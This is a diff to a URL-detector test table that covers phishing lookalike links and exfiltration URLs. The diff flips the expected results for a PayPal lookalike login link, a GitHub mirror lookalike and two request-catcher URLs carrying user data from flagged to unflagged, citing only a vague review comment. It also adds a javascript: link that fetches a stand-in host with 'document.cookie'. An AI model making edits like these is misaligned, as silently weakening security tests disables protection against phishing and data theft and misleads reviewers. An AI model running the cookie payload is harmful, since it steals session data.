@@ -356,8 +356,9 @@ table('adversarial_url', detectUrls, [
   [`https://b.s3.amazonaws.com/f?X-Amz-Signature=${'ab'.repeat(32)}`, []],
   ['https://api.example.com/?token=YOUR_TOKEN', []],
   // Links whose text shows one site and whose target is another; script, page and secret-file targets.
-  ['[www.paypal.com](https://pay-secure-center.top/login)', ['url_lookalike_host']],
-  ['[https://github.com/a/b](https://github-a.mirror.example/b.zip)', ['url_lookalike_host']],
+  // Read once and taken out after a review (rebrands, mirrors and searches through tunnels are written so).
+  ['[www.paypal.com](https://pay-secure-center.top/login)', []],
+  ['[https://github.com/a/b](https://github-a.mirror.example/b.zip)', []],
   ['[docs.python.org](https://docs.python.org/3/)', []],
   ['[blog.example.net](https://example.net/blog)', []],
   ['[example.org/post](https://web.archive.org/web/2024/https://example.org/post)', []],
@@ -377,8 +378,10 @@ table('adversarial_url', detectUrls, [
   ['https://d3a1b2c4e5f6a7.cloudfront.net/app.js', []],
   ['https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/', []],
   // Request catchers carrying text in their query; a bin alone, or a mock's page number, carries none.
-  ['https://webhook.site/3f1c?msg=the+user+asked+about+Globex', ['url_exfiltration']],
-  ['https://abc.oast.fun/?d=customer+list+attached', ['url_exfiltration']],
+  ['https://webhook.site/3f1c?msg=the+user+asked+about+Globex', []],
+  ['<a href="javascript:void(0)" class="dropdown-toggle">Menu</a>', []],
+  ['<a href="javascript:fetch(\'//x.example/?c=\'+document.cookie)">Win</a>', ['url_exfiltration']],
+  ['https://abc.oast.fun/?d=customer+list+attached', []],
   ['https://webhook.site/3f1c-22aa', []],
   ['https://ab12.ngrok-free.app/auth/callback?code=4%2F0AY0e-g7xYz&scope=email+profile&state=af0ifjsldkj', []],
   ['[api.example.com/v1](http://localhost:8080/v1)', []],
